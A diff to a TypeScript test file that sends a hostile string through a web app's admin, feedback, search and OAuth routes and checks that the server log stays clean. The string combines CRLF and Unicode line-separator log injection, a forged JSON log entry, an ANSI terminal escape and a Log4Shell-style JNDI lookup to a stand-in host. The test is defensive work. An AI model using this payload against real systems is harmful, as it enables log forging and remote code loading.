@@ -54,10 +54,13 @@ function post(path: string, form: Record<string, string>, origin = site.origin) 
   return request(path, { method: 'POST', headers: { 'content-type': type, origin }, body })
 }
 
-const letter = { message: 'Secret' }
+/** What would be a line of its own, or change a terminal. */
+const secretLine =
+  'Secret\r\n{"level":60,"msg":"smuggled"}\u2028\u001b[31m${jndi:ldap://elsewhere.example}'
+const letter = { message: secretLine }
 const requestAttempts: Record<string, Attempt> = {
   'not signed in': async () => {
-    await request('/adminf83922ab/feedback?q=Secret')
+    await request(`/adminf83922ab/feedback?q=${encodeURIComponent(secretLine)}`)
     await post('/adminf83922ab/actions/events', letter)
   },
   'from another site': () => post('/feedback', letter, 'https://elsewhere.example'),
@@ -69,7 +72,7 @@ const requestAttempts: Record<string, Attempt> = {
   'too often': () => oneVisitor.request('/search?q=Secret'),
 }
 
-const junk = new URLSearchParams({ code: 'Secret', state: 'Secret' })
+const junk = new URLSearchParams({ code: secretLine, state: secretLine })
 const webView = 'Mozilla/5.0 (Linux; Android 10; K; wv) Chrome/142.0.0.0 Mobile Safari/537.36'
 
 /** Comes back from the provider, whose token is wrong like this. */
@@ -177,6 +180,6 @@ describe('a hundred times, this reason has one line a minute', () => {
   test('and nothing of what was sent', () => {
     const [first] = readLines('refused').filter(({ repeated }) => repeated)
     expect(first?.['requests']).toHaveLength(20)
-    expect(site.readLog()).not.toMatch(/Secret|elsewhere|127\.0\.0\.1|10\.0\.|192\.0|@/)
+    expect(site.readLog()).not.toMatch(/smuggled|Secret|elsewhere|127\.0\.0\.1|10\.0\.|192\.0|@/)
   })
 })
